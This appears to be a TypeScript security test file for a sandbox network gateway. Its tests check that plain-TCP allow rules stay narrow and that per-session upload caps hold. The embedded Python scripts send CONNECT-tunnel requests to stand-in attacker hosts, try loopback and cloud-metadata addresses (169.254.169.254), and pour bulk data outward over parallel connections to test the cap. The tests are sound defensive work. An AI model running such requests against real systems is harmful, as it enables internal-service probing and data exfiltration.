import { wrongIn, type Attack } from '../../attack.ts';
import { MAX_SENT_MB } from '../../rig/arena.ts';
import { fromInside } from '../../rig/from-inside.ts';
import { PUBLIC_ADDRESS, PUBLIC_GREETING } from '../../rig/internet.ts';

const area = 'network';

/** What a rule for any bytes opens, and how much may go through it. */
export const PLAIN_TCP: Attack[] = [
  fromInside({
    name: 'a rule for plain TCP opens its one host and port, and nothing behind the walls',
    area,
    must: 'Any bytes go there; other ports and names, a host allowed for HTTP alone, and a name that leads inside stay shut.',
    request: {
      network: {
        allow: [
          'tcp://db.attacker.test:5432',
          'web.attacker.test:80',
          'tcp://within.attacker.test:5432',
          'tcp://meta.attacker.test:5432',
        ],
      },
    },
    script: async ({ internet }) => {
      for (const name of ['db', 'sub.db', 'web', 'other'])
        await internet.serve(`${name}.attacker.test`, [PUBLIC_ADDRESS]);
      await internet.serve('within.attacker.test', ['127.0.0.1']);
      await internet.serve('meta.attacker.test', ['169.254.169.254']);
      return `
        weapon <<'PY'
from weapon import *
def through(target):
    # A request that names somebody else: where bytes are looked at, it does not pass.
    return at_gateway(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\nGET /tcp HTTP/1.1\\r\\nHost: anybody.test\\r\\nConnection: close\\r\\n\\r\\n".encode())
if "${PUBLIC_GREETING}" not in through("db.attacker.test:5432"):
    hole("what is allowed is shut")
for target in ("db.attacker.test:5433", "db.attacker.test:80", "sub.db.attacker.test:5432", "other.attacker.test:5432",
               "${PUBLIC_ADDRESS}:5432", "within.attacker.test:5432", "meta.attacker.test:5432", "127.0.0.1:5432"):
    answer = through(target)
    if not answer.startswith("HTTP/1.1 403"):
        hole(f"{target}: {answer[:200]!r}")
if "${PUBLIC_GREETING}" in through("web.attacker.test:80"):
    hole("what is allowed for HTTP takes any bytes")
PY`;
    },
    holds: async ({ events }, { internet }) => {
      const dialled = (await internet.journal()).filter(({ what, of }) => what === 'dialled' && /:543[23]$/.test(of));
      const elsewhere = dialled.filter(({ of }) => of !== `${PUBLIC_ADDRESS}:5432`);
      const allowed = events.filter(({ type, detail }) => type === 'network' && detail['verdict'] === 'allowed');
      return wrongIn(
        [dialled.length > 0, 'nothing was dialled at all'],
        [elsewhere.length === 0, `dialled: ${JSON.stringify(elsewhere)}`],
        [
          allowed.some(({ detail }) => detail['host'] === 'db.attacker.test' && detail['port'] === 5432),
          'no event tells of the way that was opened',
        ],
      );
    },
  }),
  fromInside({
    name: 'a session cannot send more than its share, by however many ways',
    area,
    must: 'Its ways are cut when the bytes are used up, the next is refused and told why, and its repo can still be pushed to.',
    request: { network: { allow: ['tcp://sink.attacker.test:9', 'sink.attacker.test:80'] } },
    script: async ({ internet }) => {
      await internet.serve('sink.attacker.test', [PUBLIC_ADDRESS]);
      return `
        weapon <<'PY'
from weapon import *
import threading
poured, block = [0] * 4, b"x" * 65536
def pour(at):
    with socket.socket(socket.AF_UNIX) as gateway:
        gateway.settimeout(10)
        gateway.connect(GATEWAY)
        gateway.sendall(b"CONNECT sink.attacker.test:9 HTTP/1.1\\r\\nHost: sink.attacker.test:9\\r\\n\\r\\n")
        if b" 200 " not in gateway.recv(4096):
            return
        gateway.sendall(b"POST /sink HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 1000000000\\r\\n\\r\\n")
        try:
            while poured[at] < 4 * ${MAX_SENT_MB} * 1048576:
                gateway.sendall(block)
                poured[at] += len(block)
        except OSError as error:
            print("cut:", error)
ways = [threading.Thread(target=pour, args=(at,)) for at in range(4)]
for way in ways: way.start()
for way in ways: way.join()
print(f"poured_mb={sum(poured) >> 20}")
# What is on its way in buffers is not counted yet.
if not 0 < sum(poured) <= ${MAX_SENT_MB * 2} * 1048576:
    hole(f"{sum(poured)} bytes went out")
for request in (b"CONNECT sink.attacker.test:9 HTTP/1.1\\r\\nHost: sink.attacker.test:9\\r\\n\\r\\n", b"GET http://sink.attacker.test/ HTTP/1.1\\r\\nHost: sink.attacker.test\\r\\n\\r\\n"):
    answer = at_gateway(request)
    if not answer.startswith("HTTP/1.1 429") or "has sent all" not in answer:
        hole(f"one more way: {answer[:200]!r}")
PY
        echo more > more.txt; git add more.txt; git commit -qm more; git push -q origin HEAD || hole "its own repo cannot be pushed to"`;
    },
    holds: ({ events }) => {
      const verdicts = events.filter(({ type }) => type === 'network').map(({ detail }) => detail['verdict']);
      return wrongIn([verdicts.includes('cut'), `no event tells of a cut: ${verdicts.join()}`]);
    },
  }),
];
